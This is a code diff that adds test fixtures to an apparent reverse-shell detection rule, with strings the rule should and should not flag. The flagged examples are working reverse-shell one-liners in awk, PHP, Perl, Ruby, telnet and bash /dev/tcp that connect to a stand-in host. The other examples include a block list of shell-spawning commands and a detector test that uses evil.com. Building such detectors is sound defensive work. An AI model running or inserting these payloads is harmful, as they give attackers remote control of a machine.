@@ -8,9 +8,24 @@ extension ReverseShellRule {
     Example(
       "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n↓os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
       language: .python),
+    Example("↓awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) {s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}'\n", language: .shell),
+    Example("↓php -r '$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n", language: .shell),
+    Example("↓perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.7\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'\n", language: .shell),
+    Example("↓ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'\n", language: .shell),
+    Example("↓telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445\n", language: .shell),
+    Example("import subprocess\nsubprocess.run(↓\"bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\", shell=True)\n", language: .python),
+    Example("const unit = ↓`[Service]\\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\\n`;\nrequire('fs').writeFileSync(p, unit);\n", language: .javascript),
   ]
 
   static let nonTriggering: [Example] = [
+    Example("awk '{print $1}' access.log | sort | uniq -c\n", language: .shell, note: "awk without a socket"),
+    Example("php -r 'echo json_encode([\"ok\" => true]);'\n", language: .shell, note: "php one-liner without a socket"),
+    Example("telnet mail.example.org 25\n", language: .shell, note: "a telnet session, no shell in the pipeline"),
+    Example("print(\"Check the port with: nc -zv host 443\")\n", language: .python, note: "a probe command in a string"),
+    Example("BLOCKED = [\n    \"nc -e /bin/sh *\",\n    \"bash -i >& /dev/tcp/*\",\n]\n", language: .python, note: "a guard's block list"),
+    Example(
+      "it('denies egress', () => {\n  monitor.recordShellCommand('bash -i >& /dev/tcp/evil.com/4444 0>&1', 'skill-a');\n});\n",
+      language: .javascript, note: "a detector's test feeds it the string"),
     Example("Bash can open sockets through `/dev/tcp/host/port`, which some tutorials use for port checks.\n", note: "prose"),
     Example("nc -zv example.org 443\n", language: .shell, note: "port probe, no shell"),
     Example("import socket\ns = socket.create_connection(('example.org', 443))\ns.sendall(b'ping')\n", language: .python),
